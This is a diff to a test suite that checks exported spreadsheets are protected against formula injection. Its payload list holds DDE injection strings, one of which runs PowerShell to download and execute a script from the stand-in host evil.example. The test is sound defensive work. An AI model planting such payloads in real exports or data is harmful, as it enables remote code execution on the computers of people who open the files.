@@ -15,7 +15,7 @@ const payloads = [
   "@SUM(1+1)*cmd|' /C calc'!A0",
   '\t=1+1',
   '\r=1+1',
-  '=cmd|\' /C powershell IEX(wget evil.example/p.ps1)\'!A0',
+  "=cmd|' /C powershell IEX(wget evil.example/p.ps1)'!A0",
   '＝1+1', // full-width: harmless, left alone
 ];
 const DANGEROUS = /^[=+\-@\t\r]/;
@@ -30,7 +30,8 @@ describe('formula injection: exported cells are neutralised', () => {
   jest.setTimeout(120_000);
   let stack: RunningStack;
   let call: ReturnType<typeof apiClient>;
-  const raw = (path: string, accept: string) => fetch(`${stack.baseUrl}${path}`, { headers: { authorization: `Bearer ${stack.adminKey}`, accept } });
+  const raw = (path: string, accept: string) =>
+    fetch(`${stack.baseUrl}${path}`, { headers: { authorization: `Bearer ${stack.adminKey}`, accept } });
 
   beforeAll(async () => {
     stack = await startStack();
@@ -41,7 +42,16 @@ describe('formula injection: exported cells are neutralised', () => {
     for (const [i, text] of payloads.entries()) {
       const res = await call('POST', '/v1/items', {
         key: stack.adminKey,
-        body: { planCode: 'EVIL', code: `E${i + 1}`, title: text, finding: text, target: text, deadline: '2027-06-30', responsibleUnitId: 'hhht-water', supervisingUnitId: 'hhht-eco' },
+        body: {
+          planCode: 'EVIL',
+          code: `E${i + 1}`,
+          title: text,
+          finding: text,
+          target: text,
+          deadline: '2027-06-30',
+          responsibleUnitId: 'hhht-water',
+          supervisingUnitId: 'hhht-eco',
+        },
       });
       expect({ text, status: res.status }).toEqual({ text, status: 201 });
     }
@@ -87,8 +97,16 @@ describe('formula injection: exported cells are neutralised', () => {
     const names = units.map(({ id, name }) => ({ id, name }));
     const events: ReportEvent[] = [];
     const itemId = '0b0e3c1e-0000-4000-8000-0000000000aa';
-    const add = (type: string, at: string, data: Record<string, unknown>) => events.push({ type, streamId: `item-${itemId}`, recordedAt: new Date(at), data: { itemId, ...data, at } });
-    add('ItemFiled', '2026-09-01T01:00:00Z', { planCode: 'EVIL', code: '1', title: 'x', kind: 'time_bound', deadline: '2026-10-15', milestones: [] });
+    const add = (type: string, at: string, data: Record<string, unknown>) =>
+      events.push({ type, streamId: `item-${itemId}`, recordedAt: new Date(at), data: { itemId, ...data, at } });
+    add('ItemFiled', '2026-09-01T01:00:00Z', {
+      planCode: 'EVIL',
+      code: '1',
+      title: 'x',
+      kind: 'time_bound',
+      deadline: '2026-10-15',
+      milestones: [],
+    });
     add('ItemAssigned', '2026-09-01T01:00:00Z', { responsibleUnitId: 'hhht-eco', cooperatingUnitIds: [], supervisingUnitId: 'hhht-water' });
     await storeReport(stack.database.db, computeBulletin(events, names, '2026-10'), new Date('2026-11-01T00:00:00Z'));
     await storeReport(stack.database.db, computeDispatch(events, names, '2026-W42'), new Date('2026-10-19T00:00:00Z'));
@@ -99,11 +117,13 @@ describe('formula injection: exported cells are neutralised', () => {
       const workbook = new ExcelJS.Workbook();
       await workbook.xlsx.load(Buffer.from(await res.arrayBuffer()) as unknown as ExcelJS.Buffer);
       const values: unknown[] = [];
-      workbook.worksheets[0].eachRow((row) => row.eachCell((cell) => {
-        values.push(cell.value);
-        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
-        if (typeof cell.value === 'string') expect(cell.value).not.toMatch(DANGEROUS);
-      }));
+      workbook.worksheets[0].eachRow((row) =>
+        row.eachCell((cell) => {
+          values.push(cell.value);
+          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
+          if (typeof cell.value === 'string') expect(cell.value).not.toMatch(DANGEROUS);
+        }),
+      );
       expect({ path, has: values.includes(`'${units[1].name}`) }).toEqual({ path, has: true });
       expect(values.some((v) => typeof v === 'number')).toBe(true);
     }
